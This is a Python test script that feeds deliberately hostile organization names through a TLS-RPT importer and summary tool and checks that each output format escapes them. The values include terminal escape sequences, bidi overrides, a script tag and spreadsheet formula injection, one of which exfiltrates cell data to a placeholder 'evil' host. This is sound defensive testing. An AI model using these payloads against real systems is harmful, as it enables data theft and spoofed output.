#!/usr/bin/env python3
"""Report fields written by an attacker, through every output (as
doc/output.md states it): the real tlsrpt-import and
tlsrpt-summary in text, CSV, HTML and JSON. The daemon's log and API are
checked by tests/e2e/hostile-output.sh with the reports this writes.

usage: hostile.py BUILD_DIR SCRATCH_DIR        prints ok / not ok lines
       hostile.py --plan                         prints how many (PLAN)

tests/e2e/hostile-output.sh adds PLAN to its own plan: a check added here
raises PLAN. An exception stops it with status 1.
"""
import csv
import io
import json
import os
import re
import subprocess
import sys

PLAN = 12
if sys.argv[1:] == ["--plan"]:
    print(PLAN)
    sys.exit(0)
BIN, WORK = sys.argv[1], sys.argv[2]
DB = os.path.join(WORK, "hostile.db")
DIR = os.path.join(WORK, "hostile")
os.makedirs(DIR, exist_ok=True)
NOW = "2026-03-15T00:00:00Z"
DOMAIN = "hostile.example"

# What a terminal, an editor or a spreadsheet would act on.
RAW = ["\x1b", "\x07", "\r", "\x7f", "\u0085", "\u202e", "\u2066"]
NAMES = [
    "Evil\x1b[2J\x1b]0;pwned\x07Corp",                 # clear screen, title
    "Line\r\nhostile.example: READY\nX",               # a fake verdict line
    "Right\u202eevil\u2066to\u2069left",               # bidi overrides
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",      # a formula
    "+1+2", "-3-4", "@SUM(A1)", "\tTab Corp", "\rCR Corp",
    "Quote \" and \\ back\\slash",
    "<script>alert(1)</script>",
    "Long " + "\"x" * 1900,                            # 4 KB with quotes
    "Del\x7fC1\u0085End",
]


def check(name, cond, detail=""):
    print(("ok - " if cond else "not ok - ") + name)
    if not cond and detail:
        print("#   " + str(detail)[:2000].replace("\n", "\n#   "))


def report(i, org):
    return {
        "organization-name": org,
        "date-range": {"start-datetime": "2026-03-%02dT00:00:00Z" % (8 + i % 7),
                       "end-datetime": "2026-03-%02dT23:59:59Z" % (8 + i % 7)},
        "contact-info": org,
        "report-id": "id-%d-%s" % (i, org),
        "policies": [{
            "policy": {"policy-type": "sts", "policy-domain": DOMAIN,
                       "policy-string": ["version: STSv1", "mode: testing",
                                         "mx: mx1." + DOMAIN, "max_age: 86400",
                                         "x: " + org]},
            "summary": {"total-successful-session-count": 1000,
                        "total-failure-session-count": 1},
            "failure-details": [{
                "result-type": "weird-" + org,
                "receiving-mx-hostname": "mx1." + DOMAIN,
                "failed-session-count": 1,
                "failure-reason-code": org}]}]}


for i, org in enumerate(NAMES):
    with open(os.path.join(DIR, "r%02d.json" % i), "w") as f:
        json.dump(report(i, org), f)

imp = subprocess.run([os.path.join(BIN, "tlsrpt-import"), "--db", DB, DIR],
                     capture_output=True)
out = imp.stdout.decode("utf-8", "replace")
check("hostile reports imported (exit %d)" % imp.returncode,
      imp.returncode == 0 and out.count("accepted\t") == len(NAMES),
      out + imp.stderr.decode("utf-8", "replace"))


def no_raw(name, text):
    found = [repr(c) for c in RAW if c in text]
    check(name + ": no raw control or bidi character", not found, found)


no_raw("tlsrpt-import lines", out)
check("tlsrpt-import lines: one line per report, escapes visible",
      len(out.splitlines()) == len(NAMES) and "\\x1b" in out and
      "\\u202e" in out, out)


def summary(*args):
    p = subprocess.run([os.path.join(BIN, "tlsrpt-summary"), "--db", DB,
                        "--now", NOW, "--domain", DOMAIN] + list(args),
                       capture_output=True)
    return p.stdout.decode("utf-8")


text = summary()
no_raw("text", text)
check("text: the escapes are visible (\\x1b, \\x0d\\x0a, \\u202e)",
      "\\x1b[2J" in text and "\\x0d\\x0ahostile.example: READY" in text and
      "\\u202e" in text and "\\u2066" in text, text)
check("text: the verdict line is the first, and the only one",
      text.splitlines()[0].startswith(DOMAIN + ": ") and
      [l for l in text.splitlines() if l.startswith(DOMAIN + ":")] ==
      [text.splitlines()[0]], text.splitlines()[:3])

page = summary("--format", "html")
no_raw("html", page)
check("html: markup escaped, controls shown as escapes",
      "<script>" not in page and "&lt;script&gt;" in page and
      "\\x1b[2J" in page and "\\u202e" in page, "")

raw_csv = summary("--format", "csv")
no_raw("csv", raw_csv.replace("\r\n", "\n"))
rows = list(csv.reader(io.StringIO(raw_csv)))
cells = [c for row in rows[1:] for c in row]
risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
         and not re.fullmatch(r"-?[0-9.]+", c)]
reporters = rows[1][rows[0].index("reporters")]
check("csv: no cell starts as a formula", not risky and len(rows) == 2, risky)
check("csv: the reporters cell guarded and escaped",
      reporters.startswith("'") or reporters.startswith("\\x09") or
      reporters[:1] not in "=+-@", reporters[:80])

doc = json.loads(summary("--format", "json"))
raw_json = summary("--format", "json")
check("json: valid, ASCII only, the exact names kept",
      all(ord(c) < 0x80 and (c >= " " or c == "\n") for c in raw_json) and
      sorted(doc["domains"][0]["reporters"]) == sorted(NAMES),
      doc["domains"][0]["reporters"][:3])
